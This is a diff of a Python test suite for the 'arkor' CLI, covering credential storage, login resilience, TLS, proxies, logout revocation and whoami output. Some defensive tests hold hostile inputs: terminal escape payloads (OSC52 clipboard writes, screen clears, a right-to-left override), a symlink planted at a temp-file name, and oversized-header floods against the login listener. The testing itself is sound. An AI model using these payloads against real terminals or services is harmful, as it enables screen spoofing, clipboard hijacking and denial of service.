-        self.assertEqual((code, out, err), (1, "", "Unexpected answer from GET /v1/me (200): not JSON: <html>\n"))
-
-
-class PublicApiTest(OAuthCase):
-    """The functions scripts import: the same ones the commands use."""
-
-    @contextlib.contextmanager
-    def environment(self, **env: str | None) -> Iterator[None]:
-        with mock.patch.dict(os.environ, self.env(**env), clear=True):
-            yield
-
-    def test_exports(self) -> None:
-        self.assertEqual(
-            sorted(arkor_cli.__all__),
-            ["ArkorError", "__version__", "cloud_api_url", "credentials_path", "get_token", "main", "read_credentials"],
-        )
-        for name in arkor_cli.__all__:
-            value = getattr(arkor_cli, name)
-            if callable(value):
-                self.assertTrue(value.__doc__, f"{name} has no docstring")
-
-    def test_signed_out(self) -> None:
-        with self.environment():
-            self.assertEqual(arkor_cli.credentials_path(), self.creds)
-            self.assertIsNone(arkor_cli.read_credentials())
-            self.assertIsNone(arkor_cli.get_token())
-            self.assertEqual(arkor_cli.cloud_api_url(), self.cloud.url)
-        with self.environment(ARKOR_CLOUD_API_URL=None):
-            self.assertEqual(arkor_cli.cloud_api_url(), "https://api.arkor.ai")
-        self.assertEqual(self.cloud.requests, [])
-
-    def test_signed_in_anonymously(self) -> None:
-        self.assertEqual(self.run_main("login", "--anonymous")[0], 0)
-        (token,) = self.cloud.tokens
-        with self.environment(ARKOR_CLOUD_API_URL=None):
-            self.assertEqual(arkor_cli.get_token(), token)
-            self.assertEqual(arkor_cli.cloud_api_url(), self.cloud.url)  # the stored one
-            stored = arkor_cli.read_credentials()
-            assert stored is not None
-            self.assertEqual(stored["mode"], "anon")
-        with self.environment(ARKOR_CLOUD_API_URL="http://127.0.0.1:1/"):
-            self.assertEqual(arkor_cli.cloud_api_url(), "http://127.0.0.1:1")  # the variable wins
-
-    def test_get_token_renews_near_expiry(self) -> None:
-        tokens = {"access_token": self.sign_in_oauth(expires_in=10, mode="oauth")["accessToken"]}
-        with self.environment():
-            token = arkor_cli.get_token()
-            self.assertEqual(token, self.auth0.issued[-1]["access_token"])
-            self.assertNotEqual(token, tokens["access_token"])
-            self.assertEqual(arkor_cli.get_token(), token)  # fresh now: no second renewal
-        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
-        self.assertEqual(self.read_creds()["accessToken"], token)
-        # and the token works against the cloud-api
-        code, out, _ = self.run_main("whoami")
-        self.assertEqual(code, 0)
-        self.assertTrue(out.endswith("Orgs: ada-personal, analytical\n"))
-
-    def test_broken_file_raises_the_cli_message(self) -> None:
-        self.write_creds(b"{oops")
-        with self.environment(), self.assertRaises(arkor_cli.ArkorError) as caught:
-            arkor_cli.get_token()
-        self.assertTrue(caught.exception.message.startswith(f"{self.creds} does not hold valid arkor credentials"))
-        self.assertEqual(caught.exception.status, 1)
-
-
-# ---------------------------------------------------------------------------
-# Resilience: nothing lost, nothing torn, nothing leaked
-# ---------------------------------------------------------------------------
-
-
-def can_mount_tmpfs() -> bool:
-    """Root on Linux with mount(8) allowed (CI here): tiny and read-only filesystems."""
-    if not sys.platform.startswith("linux") or os.geteuid() != 0 or not shutil.which("mount"):
-        return False
-    probe = tempfile.mkdtemp()
-    try:
-        ok = subprocess.run(
-            ["mount", "-t", "tmpfs", "-o", "size=16k", "tmpfs", probe], capture_output=True, check=False
-        )
-        if ok.returncode != 0:
-            return False
-        subprocess.run(["umount", probe], check=False)
-        return True
-    finally:
-        os.rmdir(probe)
-
-
-class ResilienceTest(OAuthCase):
-    def assert_whole_anon_file(self) -> dict[str, Any]:
-        data = self.read_creds()  # valid JSON, or this raises
-        self.assertEqual(data["mode"], "anon")
-        self.assertIn(data["token"], self.cloud.tokens)
-        return data
-
-    def test_twenty_logins_at_once(self) -> None:
-        # Twenty processes replace the file at once while a reader watches:
-        # the reader only ever sees no file or a whole one, and one whole
-        # file is left, with no temp file beside it.
-        import threading
-
-        torn: list[str] = []
-        stop = threading.Event()
-
-        def watch() -> None:
-            while not stop.is_set():
-                try:
-                    with open(self.creds, encoding="utf-8") as f:
-                        text = f.read()
-                except FileNotFoundError:
-                    continue
-                try:
-                    json.loads(text)
-                except ValueError:
-                    torn.append(text)
-
-        watcher = threading.Thread(target=watch)
-        watcher.start()
-        try:
-            procs = [self.spawn("login", "--anonymous") for _ in range(20)]
-            for proc in procs:
-                out, err = proc.communicate(timeout=120)
-                self._record(out, err)
-                self.assertEqual((proc.returncode, err), (0, ""))
-        finally:
-            stop.set()
-            watcher.join()
-        self.assertEqual(torn, [])
-        self.assertEqual(len(self.cloud.tokens), 20)
-        self.assert_whole_anon_file()
-        self.assertEqual(self.leftovers(), [])
-        code, out, _ = self.run_main("whoami")
-        self.assertEqual(code, 0)
-
-    @unittest.skipUnless(POSIX, "SIGKILL")
-    def test_sigkill_at_many_points_never_tears_the_file(self) -> None:
-        # Kill a login at delays spread over its whole life (start-up,
-        # request, write, rename): the file is always the old one or the new
-        # one, whole; a temp file a kill leaves behind is private.
-        self.sign_in_anon()
-        kept = replaced = 0
-        for step in range(40):
-            proc = self.spawn("login", "--anonymous")
-            time.sleep(step * 0.006)
-            proc.kill()
-            out, err = proc.communicate(timeout=30)
-            self._record(out, err)
-            data = self.read_creds()
-            if data["token"] == "anon-token-stored":
-                kept += 1
-            else:
-                self.assert_whole_anon_file()
-                replaced += 1
-            for name in self.leftovers():
-                mode = stat.S_IMODE(os.stat(os.path.join(self.arkor_dir, name)).st_mode)
-                self.assertEqual(mode & 0o077, 0, f"{name} is readable by others")
-                os.remove(os.path.join(self.arkor_dir, name))
-        self.assertEqual(kept + replaced, 40)
-        self.assertGreater(kept, 0)  # the kills landed before the rename, too
-        self.assertGreater(replaced, 0)  # and after it
-
-    @unittest.skipUnless(can_mount_tmpfs(), "needs root and mount(8) for a tiny or read-only filesystem")
-    def test_full_and_read_only_filesystems(self) -> None:
-        mount = tempfile.mkdtemp(prefix="arkor-fs-")
-        self.addCleanup(os.rmdir, mount)
-        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", mount], check=True)
-        self.addCleanup(subprocess.run, ["umount", mount], check=False)
-        home = os.path.join(mount, "home")
-        os.makedirs(os.path.join(home, ".arkor"))
-        creds = os.path.join(home, ".arkor", "credentials.json")
-        self.cloud.add_token("anon-token-stored")
-        old = {
-            "mode": "anon",
-            "token": "anon-token-stored",
-            "anonymousId": "anon-stored",
-            "arkorCloudApiUrl": self.cloud.url,
-            "orgSlug": "stored-org",
-        }
-        with open(creds, "w") as f:
-            json.dump(old, f)
-        # Fill the disk to the last byte.
-        fd = os.open(os.path.join(mount, "filler"), os.O_WRONLY | os.O_CREAT)
-        try:
-            while os.write(fd, b"\0" * 512):
-                pass
-        except OSError:
-            pass  # full
-        finally:
-            os.close(fd)
-        code, out, err = self.run_main("login", "--anonymous", HOME=home, USERPROFILE=home)
-        self.assertEqual((code, out), (1, ""))
-        self.assertEqual(err, f"Could not write {creds}: No space left on device.\n")
-        with open(creds) as f:
-            self.assertEqual(json.load(f), old)
-        self.assertEqual(
-            sorted(set(os.listdir(os.path.dirname(creds))) - {"credentials.json.lock"}), ["credentials.json"]
-        )
-        # Read-only: the login says so; whoami still reads.
-        os.remove(os.path.join(mount, "filler"))
-        subprocess.run(["mount", "-o", "remount,ro", mount], check=True)
-        code, out, err = self.run_main("login", "--anonymous", HOME=home, USERPROFILE=home)
-        self.assertEqual((code, out), (1, ""))
-        self.assertEqual(err, f"Could not write {creds}: Read-only file system.\n")
-        code, out, _ = self.run_main("whoami", HOME=home, USERPROFILE=home)
-        self.assertEqual(code, 0)
-        self.assertTrue(out.startswith("{"), out)
-
-    @unittest.skipUnless(POSIX, "symlinks need privileges on Windows")
-    def test_a_link_planted_at_the_temp_name_is_never_followed(self) -> None:
-        self.sign_in_anon()
-        before = self.creds_bytes()
-        victim = os.path.join(self.home, "victim.txt")
-        with open(victim, "w") as f:
-            f.write("precious")
-        # Make the temp name predictable, and plant a link there first.
-        planted = os.path.join(self.arkor_dir, f".credentials.json.{os.getpid()}.{'00' * 6}.tmp")
-        os.symlink(victim, planted)
-        with mock.patch.object(os, "urandom", return_value=b"\0" * 6):
-            code, out, err = self.run_main("login", "--anonymous")
-        self.assertEqual((code, out), (1, ""))
-        self.assertEqual(err, f"Could not write {self.creds}: File exists.\n")
-        with open(victim) as f:
-            self.assertEqual(f.read(), "precious")
-        self.assertEqual(self.creds_bytes(), before)
-        self.assertTrue(os.path.islink(planted))  # not ours to remove
-
-    def test_tls_failures(self) -> None:
-        self.sign_in_anon()
-        for cert, reason in (
-            (
-                "expired",
-                (
-                    "TLS certificate not trusted (certificate has expired)."
-                    " Check this machine's clock, then the server's certificate."
-                ),
-            ),
-            (
-                "wrong-host",
-                (
-                    "TLS certificate not trusted (IP address mismatch, certificate is not valid for '127.0.0.1')."
-                    " The certificate is for another host: check the URL."
-                ),
-            ),
-        ):
-            with self.subTest(cert=cert), FakeAuth0(cert=cert) as server:
-                code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL=server.url)
-                self.assertEqual((code, out, err), (1, "", f"Could not reach {server.url}/v1/me: {reason}\n"))
-                self.assertEqual(server.requests, [])  # nothing was sent over it
-        # A certificate authority the system store does not know.
-        code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL=self.auth0.url, SSL_CERT_FILE=None)
-        self.assertEqual(code, 1)
-        self.assertIn("TLS certificate not trusted (unable to get local issuer certificate).", err)
-        self.assertIn("point SSL_CERT_FILE at its bundle", err)
-        self.assertEqual(self.auth0.requests, [])
-
-    def test_proxies_are_honoured(self) -> None:
-        from fake_cloud import FakeProxy
-
-        self.sign_in_anon()
-        self.cloud.add_token("anon-token-stored", user={"id": "via-proxy"}, orgs=[])
-        with FakeProxy() as proxy:
-            code, out, err = self.run_main("whoami", HTTP_PROXY=proxy.url)
-            self.assertEqual((code, out, err), (0, '{\n  "id": "via-proxy"\n}\n', ""))
-            self.assertEqual(proxy.seen, [("GET", f"{self.cloud.url}/v1/me")])
-            # HTTPS through the proxy is a CONNECT tunnel, and TLS is still
-            # checked end to end: the OAuth token exchange goes that way.
-            proc, url, _ = self.start_login(HTTPS_PROXY=proxy.url)
-            status, _, _ = browse(url)
-            self.assertEqual(status, 200)
-            self.assertEqual(self.finish(proc), (0, "Signed in\n", ""))
-            self.assertIn(("CONNECT", self.auth0.domain), proxy.seen)
-            # NO_PROXY goes direct.
-            proxy.seen.clear()
-            code, out, _ = self.run_main("whoami", HTTP_PROXY=proxy.url, NO_PROXY="127.0.0.1")
-            self.assertEqual(code, 0)
-            self.assertEqual(proxy.seen, [])
-
-    def test_listener_under_load(self) -> None:
-        # Idle connections (as browsers pre-open), an oversized header and a
-        # flood of junk do not stop the real callback from getting through.
-        proc, url, _ = self.start_login()
-        port = self.ports[0]
-        idle = []
-        for _ in range(40):
-            s = socket.create_connection(("127.0.0.1", port), timeout=5)
-            idle.append(s)
-        try:
-            with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
-                s.sendall(b"GET /callback HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nX-Big: %s\r\n\r\n" % (port, b"a" * 70000))
-                answer = s.recv(100)
-            self.assertTrue(answer.startswith((b"HTTP/1.0 431", b"HTTP/1.0 400")), answer)
-            # A client that sends junk and resets the connection: the server
-            # must not print socketserver's traceback into the user's terminal.
-
-            for _ in range(5):
-                with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
-                    s.sendall(b"GET /callback HTTP/1.1\r\nX-Big: " + b"a" * 70000)
-                    reset_on_close(s)
-            for _ in range(20):
-                status, _, _ = self.callback(port, "/nothing-here")
-                self.assertEqual(status, 404)
-            self.assertIsNone(proc.poll())
-            status, _, _ = browse(url)
-            self.assertEqual(status, 200)
-            self.assertEqual(self.finish(proc), (0, "Signed in\n", ""))
-        finally:
-            for s in idle:
-                s.close()
-
-
-class TerminalInjectionTest(OAuthCase):
-    """Text from servers and callbacks reaches the terminal with its control
-    and format characters escaped: it cannot rewrite the screen, the title
-    or the clipboard, nor reverse a name."""
-
-    OSC52 = "\x1b]52;c;ZXZpbA==\x07"  # "write 'evil' to the clipboard"
-
-    def test_anonymous_identity_fields(self) -> None:
-        minted = self.cloud.mint_anonymous()
-        minted["anonymousId"] = f"id{self.OSC52}"
-        minted["personalOrg"]["slug"] = "org\u202elive"  # right-to-left override
-        self.cloud.script("POST", "/v1/auth/anonymous", Answer(201, minted))
-        code, out, _ = self.run_main("login", "--anonymous")
-        self.assertEqual(code, 0)
-        self.assertIn("Anonymous id: id\\u001b]52;c;ZXZpbA==\\u0007\n", out)
-        self.assertIn("(personal org: org\\u202elive).", out)
-        self.assertNotIn("\x1b", out)
-        self.assertEqual(self.read_creds()["anonymousId"], f"id{self.OSC52}")  # stored as given
-
-    def test_whoami_output(self) -> None:
-        self.sign_in_anon()
-        user = {"name": "Ada\x9b2J", "bio": f"hi{self.OSC52}"}  # \x9b: a one-byte CSI
-        body = {"user": user, "orgs": [{"slug": "\x1b[31mred"}]}
-        self.cloud.script("GET", "/v1/me", Answer(200, body))
-        code, out, _ = self.run_main("whoami")
-        self.assertEqual(code, 0)
-        self.assertNotIn("\x1b", out)
-        self.assertNotIn("\x9b", out)
-        self.assertIn('"name": "Ada\\u009b2J"', out)
-        self.assertTrue(out.endswith("Orgs: \\u001b[31mred\n"), out)
-        code, out, _ = self.run_main("whoami", "--json")
-        self.assertEqual(json.loads(out), body)  # escaped, and still the same JSON
-
-    def test_error_bodies_and_callback_text(self) -> None:
-        self.cloud.script("POST", "/v1/auth/anonymous", Answer(500, body=b"\x1b[2Jgone"))
-        code, _, err = self.run_main("login", "--anonymous")
-        self.assertEqual((code, err), (1, "POST /v1/auth/anonymous failed (500): \\u001b[2Jgone\n"))
-        _, code, err = self.login_denied("\x1b[2J\x1b]0;owned\x07")
-        self.assertEqual(
-            (code, err), (1, "Login failed\nAuthentication failed: access_denied. \\u001b[2J\\u001b]0;owned\\u0007\n")
-        )
-
-
-# ---------------------------------------------------------------------------
-# logout
-# ---------------------------------------------------------------------------
-
-
-class LogoutTest(Case):
     def test_no_file(self) -> None:
-        code, out, err = self.run_main("logout")
-        self.assertEqual((code, out, err), (0, "No credentials on file.\n", ""))
-        code, out, err = self.run_main("logout", "--yes")
-        self.assertEqual((code, out, err), (0, "No credentials on file.\n", ""))
+        for argv in (["logout"], ["logout", "--yes"]):
+            with self.subTest(argv=argv):
+                code, out, err = self.run_main(*argv)
+                self.assertEqual((code, out, err), (0, "No credentials on file.\n", ""))
+        self.assertFalse(os.path.exists(self.arkor_dir))
 
-    def test_yes_flags_delete_without_asking(self) -> None:
-        for flag in ("-y", "--yes", "-f", "--force"):
-            with self.subTest(flag=flag):
-                self.write_creds({"mode": "oauth", **{k: v for k, v in self.auth0_creds().items() if k != "mode"}})
-                with mock.patch.object(arkor_cli, "_revoke"):  # revoking has tests of its own
-                    code, out, err = self.run_main("logout", flag)
-                self.assertEqual((code, out, err), (0, f"Removed {self.creds}.\n", ""))
-                self.assertFalse(os.path.exists(self.creds))
-        self.assertEqual(self.cloud.requests, [])
-
-    def test_anonymous_with_yes_warns_that_the_identity_is_lost(self) -> None:
-        self.sign_in_anon()
-        code, out, err = self.run_main("logout", "-y")
-        self.assertEqual(code, 0)
-        self.assertEqual(out, f"Removed {self.creds}.\n")
-        self.assertEqual(err, "The anonymous identity anon-stored cannot be restored once deleted.\n")
-
-    def test_no_terminal_takes_the_default_no(self) -> None:
-        before = self.write_creds(self.auth0_creds())
-        code, out, err = self.run_main("logout", stdin="y\n")  # stdin is not a TTY
-        self.assertEqual(code, 0)
-        self.assertEqual(out, "Aborted.\n")
-        self.assertEqual(err, "No terminal to confirm on; pass --yes to delete without asking.\n")
-        self.assertEqual(self.creds_bytes(), before)
-
-    def test_only_the_credentials_file_is_removed(self) -> None:
+    def test_anonymous_with_yes_warns_and_removes_only_the_credentials(self) -> None:
         self.sign_in_anon()
         other = os.path.join(self.arkor_dir, "state.json")
         with open(other, "w") as f:
             f.write("{}")
-        self.run_main("logout", "-y")
-        self.assertTrue(os.path.exists(other))
-        self.assertTrue(os.path.isdir(self.arkor_dir))
+        code, out, err = self.run_main("logout", "-y")
+        self.assertEqual(code, 0)
+        self.assertEqual(out, f"Removed {self.creds}.\n")
+        self.assertEqual(err, "The anonymous identity anon-stored cannot be restored once deleted.\n")
+        self.assertEqual(sorted(os.listdir(self.arkor_dir)), ["credentials.json.lock", "state.json"])
+        self.assertEqual((self.cloud.requests, self.auth0.requests), ([], []))
+
+    def test_no_terminal_takes_the_default_no_and_revokes_nothing(self) -> None:
+        before = self.sign_in_oauth()
+        code, out, err = self.run_main("logout", stdin="y\n")  # stdin is not a TTY
+        self.assertEqual(code, 0)
+        self.assertEqual(out, "Aborted.\n")
+        self.assertEqual(err, "No terminal to confirm on; pass --yes to delete without asking.\n")
+        self.assertEqual(self.read_creds(), before)
+        self.assertEqual(self.auth0.requests, [])
 
     def test_broken_file_can_still_be_removed(self) -> None:
         self.write_creds(b"{broken")
-        code, out, _ = self.run_main("logout", "-y")
-        self.assertEqual((code, out), (0, f"Removed {self.creds}.\n"))
+        code, out, err = self.run_main("logout", "-y")
+        self.assertEqual((code, out, err), (0, f"Removed {self.creds}.\n", ""))
         self.assertFalse(os.path.exists(self.creds))
 
-    def test_directory_in_place_of_the_file(self) -> None:
-        os.makedirs(self.creds)
-        code, _out, err = self.run_main("logout", "-y")
-        self.assertEqual(code, 1)
-        self.assertTrue(err.startswith(f"Could not remove {self.creds}: "), err)
-        self.assertTrue(os.path.isdir(self.creds))
+    # -- the lock, and only what was confirmed -------------------------------------
+
+    @unittest.skipUnless(POSIX, "fcntl")
+    def test_a_held_lock_stops_logout_before_it_revokes(self) -> None:
+        import fcntl
+
+        before = self.sign_in_oauth()
+        with open(self.creds + ".lock", "a") as held, mock.patch.object(arkor_cli, "_LOCK_WAIT", 0.2):
+            fcntl.flock(held.fileno(), fcntl.LOCK_EX)
+            code, out, err = self.run_main("logout", "-y")
+        self.assertEqual(
+            (code, out, err), (1, "", f"Another arkor process holds {self.creds}.lock; try again in a moment.\n")
+        )
+        self.assertEqual((self.auth0.revoked, self.auth0.requests), ([], []))
+        self.assertTrue(self.auth0.accepts(before["refreshToken"]))
+        self.assertEqual(self.read_creds(), before)
+
+    @unittest.skipUnless(POSIX, "needs a pty")
+    def test_a_file_changed_while_the_question_was_open_is_kept(self) -> None:
+        self.sign_in_anon()
+        self.secrets.append("anon-token-other")
+        other = {
+            "mode": "anon",
+            "token": "anon-token-other",
+            "anonymousId": "anon-other",
+            "arkorCloudApiUrl": self.cloud.url,
+            "orgSlug": "other-org",
+        }
+        written: list[bytes] = []
+
+        def sign_in_elsewhere(shown: str) -> str:
+            written.append(self.write_creds(other))  # another arkor signed in meanwhile
+            return "y"
+
+        code, shown, err = self.run_tty(["logout"], [sign_in_elsewhere], NO_COLOR="1")
+        self.assertEqual(len(written), 1, shown)
+        self.assertIn(
+            f"The anonymous identity anon-stored cannot be restored once deleted. Delete {self.creds}? [y/N] ", shown
+        )
+        self.assertEqual(
+            (code, err),
+            (
+                1,
+                f"{self.creds} changed while the question was open; nothing was deleted. Run `arkor logout` again.\n",
+            ),
+        )
+        self.assertNotIn("Removed", shown)
+        self.assertEqual(self.creds_bytes(), written[0])
+
+    @unittest.skipUnless(POSIX, "needs a pty")
+    def test_a_renewal_while_the_question_was_open_still_deletes(self) -> None:
+        stored = self.sign_in_oauth()
+        tokens = self.auth0._issue(refresh=True)
+        renewed = dict(
+            stored,
+            accessToken=tokens["access_token"],
+            refreshToken=tokens["refresh_token"],
+            expiresAt=stored["expiresAt"] + 3600,
+        )
+
+        def renew_meanwhile(shown: str) -> str:
+            self.write_creds(renewed)  # the same sign-in, renewed by another arkor
+            return "y"
+
+        # NO_COLOR set, even empty, means no colour.
+        code, shown, err = self.run_tty(["logout"], [renew_meanwhile], NO_COLOR="")
+        self.assertEqual((code, err), (0, ""))
+        self.assertTrue(shown.endswith(f"Delete {self.creds}? [y/N] y\nRemoved {self.creds}.\n"), shown)
+        self.assertFalse(os.path.exists(self.creds))
+        # What is revoked is the refresh token on file when it was deleted.
+        self.assertEqual([form["token"] for form in self.auth0.revoked], [renewed["refreshToken"]])
+
+    # -- the question on a terminal ---------------------------------------------
 
     @unittest.skipUnless(POSIX, "needs a pty")
     def test_confirmation_on_a_terminal(self) -> None:
-        for answer, deleted in (("", False), ("n", False), ("no", False), ("y", True), ("YES", True)):
-            with self.subTest(answer=answer):
-                before = self.write_creds(self.auth0_creds())
-                code, shown, _err = self.run_tty(["logout"], [answer], NO_COLOR="1")
-                self.assertEqual(code, 0)
-                self.assertIn(f"Delete {self.creds}? [y/N] ", shown)
-                self.assertNotIn("anonymous identity", shown)
-                if deleted:
-                    self.assertIn(f"Removed {self.creds}.\n", shown)
-                    self.assertFalse(os.path.exists(self.creds))
-                else:
-                    self.assertTrue(shown.endswith("Aborted.\n"), shown)
-                    self.assertEqual(self.creds_bytes(), before)
+        self.sign_in_oauth()
+        before = self.creds_bytes()
+        code, shown, err = self.run_tty(["logout"], [""], NO_COLOR="1")  # Enter: the default, No
+        self.assertEqual((code, shown, err), (0, f"Delete {self.creds}? [y/N] \nAborted.\n", ""))
+        self.assertEqual(self.creds_bytes(), before)
+        self.assertEqual(self.auth0.revoked, [])
+        # Yes in any case; on a terminal without NO_COLOR the result is green.
+        code, shown, err = self.run_tty(["logout"], ["YES"])
+        self.assertEqual((code, err), (0, ""))
+        self.assertEqual(shown, f"Delete {self.creds}? [y/N] YES\n\x1b[32mRemoved {self.creds}.\x1b[0m\n")
+        self.assertFalse(os.path.exists(self.creds))
+        self.assertEqual(len(self.auth0.revoked), 1)
 
     @unittest.skipUnless(POSIX, "needs a pty")
-    def test_colour_only_on_a_terminal_without_no_color(self) -> None:
-        self.write_creds(self.auth0_creds())
-        code, shown, _ = self.run_tty(["logout"], ["y"])
-        self.assertEqual(code, 0)
-        self.assertIn(f"\x1b[32mRemoved {self.creds}.\x1b[0m\n", shown)
-        self.write_creds(self.auth0_creds())
-        code, shown, _ = self.run_tty(["logout"], ["y"], NO_COLOR="")  # set, even empty, means no colour
-        self.assertNotIn("\x1b[", shown)
-        self.write_creds(self.auth0_creds())
-        proc = self.run_cli("logout", "-y")  # a pipe: never colour
-        self.assertEqual(proc.stdout, f"Removed {self.creds}.\n")
+    def test_undecodable_answer_counts_as_no(self) -> None:
+        before = self.sign_in_anon()
+        # PYTHONIOENCODING makes the streams strict (C.UTF-8 alone gives surrogateescape).
+        code, shown, err = self.logout_tty_bytes(
+            ["logout"], b"\xff\n", LANG="C.UTF-8", LC_ALL="C.UTF-8", PYTHONIOENCODING="utf-8:strict", NO_COLOR="1"
+        )
+        self.assertEqual((code, err), (0, ""))
+        # The question says what is lost with an anonymous identity.
+        question = f"The anonymous identity anon-stored cannot be restored once deleted. Delete {self.creds}? [y/N] "
+        self.assertEqual(shown, question.encode() + b"\xff\r\nAborted.\r\n")
+        self.assertEqual(self.read_creds(), before)
 
     @unittest.skipUnless(POSIX, "needs a pty")
     def test_question_on_stderr_when_stdout_is_redirected(self) -> None:
@@ -2382,7 +4208,7 @@ class LogoutTest(Case):
         # person, not the file.
         import pty
 
-        before = self.write_creds(self.auth0_creds())
+        before = self.sign_in_oauth()
         master, slave = pty.openpty()
         proc = subprocess.Popen(
             [sys.executable, MODULE, "logout"],
@@ -2394,42 +4220,99 @@ class LogoutTest(Case):
         os.close(slave)
         try:
             shown = b""
-            deadline = time.monotonic() + 20
-            while b"[y/N]" not in shown and time.monotonic() < deadline:
-                ready, _, _ = select.select([master], [], [], 0.1)
-                if ready:
-                    shown += os.read(master, 4096)
-            self.assertIn(f"Delete {self.creds}? [y/N] ".encode(), shown)
+            while b"[y/N]" not in shown:
+                ready, _, _ = select.select([master], [], [], 20)
+                self.assertTrue(ready, f"no question; the terminal showed {shown!r}")
+                shown += os.read(master, 4096)
+            self.assertEqual(shown, f"Delete {self.creds}? [y/N] ".encode())
             os.write(master, b"n\n")
             out, _ = proc.communicate(timeout=20)
         finally:
             if proc.poll() is None:
                 proc.kill()
+                proc.wait()
+            if proc.stdout:
+                proc.stdout.close()
             os.close(master)
         self.assertEqual((proc.returncode, out), (0, b"Aborted.\n"))
-        self.assertEqual(self.creds_bytes(), before)
-
-    @unittest.skipUnless(POSIX, "needs a pty")
-    def test_anonymous_question_says_what_is_lost(self) -> None:
-        before = self.sign_in_anon()
-        code, shown, _ = self.run_tty(["logout"], [""])
-        self.assertEqual(code, 0)
-        self.assertIn(
-            f"The anonymous identity anon-stored cannot be restored once deleted. Delete {self.creds}? [y/N] ",
-            shown,
-        )
         self.assertEqual(self.read_creds(), before)
 
+    # -- revoking the refresh token ----------------------------------------------
 
-# ---------------------------------------------------------------------------
-# whoami
-# ---------------------------------------------------------------------------
+    def test_every_yes_flag_deletes_and_revokes_without_asking(self) -> None:
+        for flag in ("-y", "--yes", "-f", "--force"):
+            with self.subTest(flag=flag):
+                stored = self.sign_in_oauth()
+                revoked = len(self.auth0.revoked)
+                code, out, err = self.run_main("logout", flag)
+                self.assertEqual((code, out, err), (0, f"Removed {self.creds}.\n", ""))
+                self.assertFalse(os.path.exists(self.creds))
+                self.assertEqual(
+                    self.auth0.revoked[revoked:],
+                    [
+                        {
+                            "client_id": self.auth0.client_id,
+                            "token": stored["refreshToken"],
+                            "token_type_hint": "refresh_token",
+                        }
+                    ],
+                )
+                self.assertFalse(self.auth0.accepts(stored["refreshToken"]))
+        for revoke in self.auth0.seen("POST", "/oauth/revoke"):
+            self.assertEqual(revoke.headers["content-type"], "application/x-www-form-urlencoded")
+        self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])
+        self.assertEqual(self.cloud.requests, [])
+
+    def test_file_removed_whatever_auth0_answers(self) -> None:
+        import functools
+
+        revoke = f"https://{self.auth0.domain}/oauth/revoke"
+        cases = [
+            (Answer(500), None, f"{revoke} answered 500"),
+            (Answer(400, {"error": "invalid_request"}), None, f"{revoke} answered 400"),
+            # Never answers: the revocation is bounded by min(5 s, ARKOR_HTTP_TIMEOUT).
+            (Answer(200, delay=30), "0.3", f"Could not reach {revoke}: timed out"),
+            (None, None, f"Could not reach {revoke}: Connection refused"),  # Auth0 is down
+        ]
+        for answer, timeout, reason in cases:
+            with self.subTest(reason=reason):
+                self.sign_in_oauth()
+                if answer is None:
+                    self.auth0.stop()
+                else:
+                    self.auth0.script("POST", "/oauth/revoke", answer)
+                # A guard well below the 5 s cap: the revocation must end at ARKOR_HTTP_TIMEOUT.
+                logout = functools.partial(self.run_main, "logout", "-y", ARKOR_HTTP_TIMEOUT=timeout)
+                code, out, err = _files_call_guarded(self, logout, 4)
+                self.assertEqual((code, out), (0, f"Removed {self.creds}.\n"))
+                self.assertEqual(
+                    err, f"Could not revoke the refresh token ({reason}); it stays valid until it expires.\n"
+                )
+                self.assertFalse(os.path.exists(self.creds))
 
 
 class WhoamiTest(Case):
+    """``arkor whoami`` and ``arkor whoami --json``."""
+
+    def whoami_encoded(self, encoding: str, *argv: str) -> tuple[int, bytes]:
+        """``main([...])`` with a stdout that encodes as ``encoding`` (strictly),
+        as a process's own stdout does under PYTHONIOENCODING=<encoding>."""
+        raw = io.BytesIO()
+        stdout = io.TextIOWrapper(raw, encoding=encoding, write_through=True)
+        with contextlib.ExitStack() as stack:
+            stack.enter_context(mock.patch.dict(os.environ, self.env(), clear=True))
+            stack.enter_context(mock.patch.object(sys, "stdin", io.StringIO("")))
+            stack.enter_context(contextlib.redirect_stdout(stdout))
+            stack.enter_context(contextlib.redirect_stderr(io.StringIO()))
+            code = arkor_cli.main(list(argv))
+        self._record(raw.getvalue().decode(encoding, "replace"))
+        return code, raw.getvalue()
+
     def test_not_signed_in(self) -> None:
         code, out, err = self.run_main("whoami")
         self.assertEqual((code, out, err), (0, NOT_SIGNED_IN, ""))
+        code, out, err = self.run_main("whoami", "--json")  # stdout is for JSON alone
+        self.assertEqual((code, out, err), (0, "", NOT_SIGNED_IN))
         self.assertEqual(self.cloud.requests, [])
         self.assertFalse(os.path.exists(self.arkor_dir))
 
@@ -2449,29 +4332,22 @@ class WhoamiTest(Case):
         self.assertEqual(request.headers["authorization"], "Bearer anon-token-stored")
         self.assertEqual(request.headers["x-arkor-client"], f"arkor/{arkor_cli.__version__}")
         self.assertEqual(request.headers["accept"], "application/json")
-
-    def test_output_the_terminal_cannot_encode(self) -> None:
-        self.sign_in_anon()
-        self.cloud.add_token("anon-token-stored", user={"name": "Zo\u00eb \u7f8e"}, orgs=[{"slug": "caf\u00e9"}])
-        proc = self.run_cli("whoami", PYTHONIOENCODING="ascii")
-        self.assertEqual(proc.returncode, 0)
-        self.assertEqual(proc.stdout, '{\n  "name": "Zo\\xeb \\u7f8e"\n}\nOrgs: caf\\xe9\n')
-
-    def test_no_orgs_no_orgs_line(self) -> None:
-        self.sign_in_anon()
+        # No orgs, no Orgs line.
         self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])
         code, out, _ = self.run_main("whoami")
         self.assertEqual((code, out), (0, '{\n  "id": "u1"\n}\n'))
 
-    def test_auth0_and_oauth_modes_use_the_access_token(self) -> None:
-        for mode in ("auth0", "oauth"):
-            with self.subTest(mode=mode):
-                self.cloud.requests.clear()
-                self.write_creds(self.auth0_creds(mode=mode, token=f"access-{mode}"))
-                self.cloud.add_token(f"access-{mode}", user={"id": mode}, orgs=[])
-                code, out, _ = self.run_main("whoami")
-                self.assertEqual((code, out), (0, f'{{\n  "id": "{mode}"\n}}\n'))
-                self.assertEqual(self.cloud.requests[0].headers["authorization"], f"Bearer access-{mode}")
+    def test_output_the_terminal_cannot_encode(self) -> None:
+        self.sign_in_anon()
